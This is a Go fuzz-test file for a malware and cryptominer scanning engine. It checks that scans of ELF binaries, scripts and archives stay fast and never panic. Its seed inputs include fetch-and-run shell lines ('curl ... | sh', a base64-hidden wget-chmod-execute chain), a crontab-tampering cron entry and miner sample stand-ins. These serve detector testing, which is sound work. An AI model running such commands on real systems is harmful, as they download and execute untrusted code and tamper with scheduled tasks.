package filescan

import (
	"bytes"
	"context"
	"encoding/base64"
	"testing"
	"time"
)

// The fuzz targets check that arbitrary bytes never panic and that work
// stays bounded: every scan of a small input must finish quickly, and
// findings never point outside the input's own path.

var fuzzOpts = Options{MaxArchiveBytes: 4 << 20, MaxZipBytes: 1 << 20, MaxBase64Bytes: 1 << 20, MaxScriptBytes: 1 << 20, MaxArchiveMembers: 64}

func fuzzScan(t *testing.T, e *Engine, path string, data []byte) {
	start := time.Now()
	fs, _ := e.ScanFile(context.Background(), path, int64(len(data)), streamOnly{bytes.NewReader(data)})
	if d := time.Since(start); d > 5*time.Second {
		t.Fatalf("scan of %d bytes took %v", len(data), d)
	}
	for _, f := range fs {
		if len(f.Path) < len(path) || f.Path[:len(path)] != path {
			t.Fatalf("finding outside the input: %+v", f)
		}
	}
}

func FuzzScanELF(f *testing.F) {
	f.Add(mkELF([]byte("RandomX\x03 mining.subscribe")))
	f.Add(mkELF(randomBytes(2048, 1)))
	f.Add([]byte("\x7fELF\x02\x01\x01"))
	f.Add([]byte("\x7fELF\x01\x02\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x03\x00\x00\x00\x01"))
	e := newEngineOpts(f, fuzzOpts)
	f.Fuzz(func(t *testing.T, data []byte) {
		if len(data) > 1<<20 {
			return
		}
		// Every input is an ELF: keep the fuzzer's mutations past the magic.
		fuzzScan(t, e, "e", append([]byte("\x7fELF"), data...))
		if _, err := e.ScanExecutable(bytes.NewReader(data)); err != nil {
			t.Fatalf("ScanExecutable on memory failed: %v", err)
		}
	})
}

func FuzzScanScript(f *testing.F) {
	f.Add([]byte(kinsingLike))
	f.Add([]byte("#!/bin/sh\nX=1\n$X $X${X} ${X\ncurl http://192.0.2.1/a | sh\\\n"))
	f.Add([]byte("echo " + base64.StdEncoding.EncodeToString([]byte("#!/bin/sh\nwget 192.0.2.1/x && chmod +x x && ./x")) + " | base64 -d | sh"))
	f.Add([]byte(xmrigConfig))
	f.Add([]byte("* * * * * root crontab -l | sed '/x/d' | crontab -\n"))
	e := newEngineOpts(f, fuzzOpts)
	f.Fuzz(func(t *testing.T, data []byte) {
		if len(data) > 1<<20 {
			return
		}
		fuzzScan(t, e, "s.sh", data)
		fuzzScan(t, e, "etc/cron.d/x", data)
		fuzzScan(t, e, "c.json", data)
	})
}

func FuzzScanArchive(f *testing.F) {
	f.Add(mkGzip(f, mkTar(f, member{"a/b.sh", []byte(kinsingLike)})))
	f.Add(mkTar(f, member{"x.gz", mkGzip(f, []byte("RandomX\x03"))}))
	f.Add(mkZip(f, member{"c.json", []byte(xmrigConfig)}, member{"d/e.tar", mkTar(f, member{"f", []byte("x")})}))
	f.Add([]byte("\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"))
	f.Add(mkZstd(f, mkTar(f, member{"m", []byte("x")})))
	f.Add(mkXZ(f, []byte("#!/bin/sh\necho hi\n")))
	f.Add([]byte("BZh91AY&SY\x00\x00"))
	e := newEngineOpts(f, fuzzOpts)
	f.Fuzz(func(t *testing.T, data []byte) {
		if len(data) > 1<<20 {
			return
		}
		fuzzScan(t, e, "a", data)
		if len(data) > 0 {
			// As a zip through io.ReaderAt, the other code path.
			start := time.Now()
			e.ScanFile(context.Background(), "z", int64(len(data)), bytes.NewReader(data))
			if d := time.Since(start); d > 5*time.Second {
				t.Fatalf("took %v", d)
			}
		}
	})
}
